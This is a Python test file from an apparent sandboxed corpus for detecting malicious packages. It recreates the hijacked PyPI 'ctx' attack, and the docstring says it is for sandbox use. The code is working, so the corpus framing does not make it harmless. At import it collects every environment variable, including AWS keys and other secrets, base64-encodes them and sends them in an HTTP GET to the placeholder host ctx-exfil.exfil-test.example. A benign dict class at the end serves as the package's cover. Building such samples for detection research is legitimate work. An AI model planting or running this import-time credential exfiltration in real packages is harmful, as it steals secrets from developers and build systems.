"""MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.

The technique of the hijacked `ctx` releases on PyPI (May 2022), rewritten
from the public analyses: when the module is used, it takes the whole
environment (AWS keys and every other secret a CI job or a developer shell
holds), base64-encodes it and sends it as the path of a plain-HTTP GET to
the attacker's web app. Here the app is ctx-exfil.exfil-test.example, and
it runs at import. Prints `mal-ctx-environ: step N ...`; never raises; an
alarm ends it after 5 s.
"""

import base64
import os
import signal
import urllib.parse
import urllib.request

URL = "http://ctx-exfil.exfil-test.example/hacked/"


def _say(msg):
    print(f"mal-ctx-environ: {msg}", flush=True)


class _Deadline(Exception):
    pass


def _on_alarm(signum, frame):
    raise _Deadline()


def _steal():
    env = str(dict(os.environ))
    keys = sorted(k for k in os.environ if k.startswith("AWS_"))
    _say(f"step 1 took {len(os.environ)} variables ({', '.join(keys) or 'no AWS keys'})")
    blob = base64.b64encode(env.encode()).decode()
    url = URL + urllib.parse.quote(blob, safe="")
    try:
        with urllib.request.urlopen(url, timeout=2) as r:
            _say(f"step 2 GET {URL}<{len(blob)} base64 characters>: status {r.status}")
    except Exception as e:
        _say(f"step 2 GET {URL} failed: {e!r}")


_old = signal.signal(signal.SIGALRM, _on_alarm)
signal.alarm(5)
try:
    _steal()
except BaseException as e:  # the alarm, or anything else: never break the import
    _say(f"stopped: {e!r}")
finally:
    signal.alarm(0)
    signal.signal(signal.SIGALRM, _old)


class Ctx(dict):
    """The advertised feature: a dict with attribute access."""

    __getattr__ = dict.get
